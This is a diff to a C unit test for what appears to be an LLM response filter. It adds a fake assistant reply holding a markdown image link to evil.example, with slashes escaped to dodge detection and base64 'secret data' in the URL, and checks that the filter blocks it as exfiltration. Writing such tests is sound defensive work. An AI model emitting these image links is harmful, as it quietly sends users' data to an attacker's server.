@@ -443,6 +443,23 @@ static void test_exfil_allowlist(void **state)
 	protect_result_fini(&res);
 	protect_req_free(r);
 
+	/* a response body, its URL written with escaped slashes */
+	{
+		const char *body = "{\"choices\":[{\"message\":{\"role\":\"assistant\",\"content\":"
+				   "\"![x](https:\\u002f\\u002fevil.example\\/p.png?d=aGVsbG8gd29y"
+				   "bGQgc2VjcmV0IGRhdGE=)\"}}]}";
+		struct body_result br = { 0 };
+		struct body_error err;
+
+		assert_int_equal(protect_req_new(fx->contoso, NULL, &r), 0);
+		assert_int_equal(protect_response_body(r, body, strlen(body), &err, &br), 0);
+		assert_true(br.blocked);
+		assert_string_equal(br.findings[br.block].path, "choices[0].message.content");
+		assert_string_equal(br.findings[br.block].f.type, "EXFILTRATION");
+		body_result_fini(&br);
+		protect_req_free(r);
+	}
+
 	/* a prompt is not checked for links */
 	r = run(fx->none, PROTECT_REQUEST, "![x](https://evil.example/p.png)", &res);
 	assert_null(find_type(&res, "EXFILTRATION"));
